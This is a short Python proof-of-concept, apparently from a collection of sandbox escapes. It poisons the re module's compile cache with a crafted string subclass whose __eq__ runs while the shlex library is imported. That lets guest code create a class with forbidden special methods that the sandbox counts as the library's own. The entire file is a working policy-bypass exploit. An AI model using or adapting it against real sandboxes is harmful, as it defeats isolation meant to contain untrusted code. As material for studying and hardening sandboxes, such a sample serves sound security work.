# technique: a key in the cache of re that is compared while a library module is imported: the guest's __eq__ runs then, and makes a class
# source: class_made took every class that is made during an import for the library's
# goal: a class with special methods that guests can't define, and that counts as the library's
# impact: policy
import re

ESCAPED = None
PATTERN = r'[^\w@%+=:,./-]'


class Meta(type):
    def __hash__(cls):
        return hash(str)

    def __eq__(cls, other):
        global ESCAPED
        try:
            ESCAPED = type('Made', (), {'__getstate__': lambda self: None})
        except TypeError:
            pass
        return False


class Text(str, metaclass=Meta):
    pass


for flags in (re.ASCII, re.ASCII.value, 0):
    try:
        re.compile(Text(PATTERN), flags)
    except TypeError:
        pass
import shlex
